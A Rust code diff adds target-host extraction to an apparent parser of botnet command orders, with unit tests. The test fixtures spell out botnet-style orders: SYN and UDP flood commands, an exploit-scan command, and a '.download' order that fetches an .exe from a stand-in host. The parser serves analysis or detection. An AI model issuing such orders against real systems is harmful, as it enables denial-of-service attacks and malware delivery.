@@ -256,6 +256,17 @@ pub(super) struct Order {
     pub(super) clear: bool,
     /// The order, cut.
     pub(super) words: String,
+    /// Whom it is aimed at, when it names one host.
+    pub(super) target: Option<Named>,
+}
+
+/// A target that an order names.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Named {
+    /// An address, or the name in a URL.
+    pub(super) host: String,
+    /// What stands in a URL after it.
+    pub(super) path: Option<String>,
 }
 
 /// Is there an order in this text? A topic may hold several.
@@ -285,6 +296,7 @@ fn single(part: &str) -> Option<Order> {
         return Some(Order {
             clear: true,
             words: shown(),
+            target: words.clone().take(6).find_map(named),
         });
     }
     let first = first.to_ascii_lowercase();
@@ -302,6 +314,7 @@ fn single(part: &str) -> Option<Order> {
     (clear || family.needs == Needs::Never).then(|| Order {
         clear,
         words: shown(),
+        target: words.take(6).find_map(named).filter(|_| clear),
     })
 }
 
@@ -327,6 +340,28 @@ fn is_target(word: &str) -> bool {
         matches!(*part, "x" | "X" | "*") || part.parse::<u8>().is_ok() && part.len() <= 3
     };
     parts.len() == 4 && parts.iter().all(open)
+}
+
+/// The one host that a word names.
+fn named(word: &str) -> Option<Named> {
+    let word = word.trim_start_matches(['<', '"', '\'', '(']);
+    let (host, path) = match word.split_once("://") {
+        Some((_, rest)) => match rest.split_once('/') {
+            Some((host, path)) => (host, Some(format!("/{path}"))),
+            None => (rest, Some(String::new())),
+        },
+        None => (word, None),
+    };
+    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
+    let name = match host.parse::<IpAddr>() {
+        Ok(_) => host,
+        Err(_) => host.split(':').next().unwrap_or(host),
+    };
+    let fits = path.is_some() && name.contains('.') || name.parse::<IpAddr>().is_ok();
+    fits.then(|| Named {
+        host: name.chars().take(SHOWN_CHARS).collect(),
+        path: path.map(|path| path.chars().take(SHOWN_CHARS).collect()),
+    })
 }
 
 fn is_url(word: &str) -> bool {
@@ -440,6 +475,26 @@ mod tests {
         ] {
             assert_eq!(order(text), None, "{text}");
         }
+    }
+
+    #[test]
+    fn the_target_of_an_order() {
+        let target = |text: &str| order(text).and_then(|order| order.target);
+        let file = |host: &str, path: Option<&str>| {
+            let (host, path) = (host.to_owned(), path.map(str::to_owned));
+            Some(Named { host, path })
+        };
+        assert_eq!(
+            target(".ddos.syn 192.0.2.77 80 60"),
+            file("192.0.2.77", None)
+        );
+        assert_eq!(target("!* UDP 192.0.2.1:53 60"), file("192.0.2.1", None));
+        assert_eq!(
+            target(".download http://a.example:8080/x.exe c:\\x.exe 1"),
+            file("a.example", Some("/x.exe"))
+        );
+        assert_eq!(target(".scan 10.x.x.x"), None, "a network");
+        assert_eq!(target(".advscan lsass 100 5"), None);
     }
 
     proptest! {
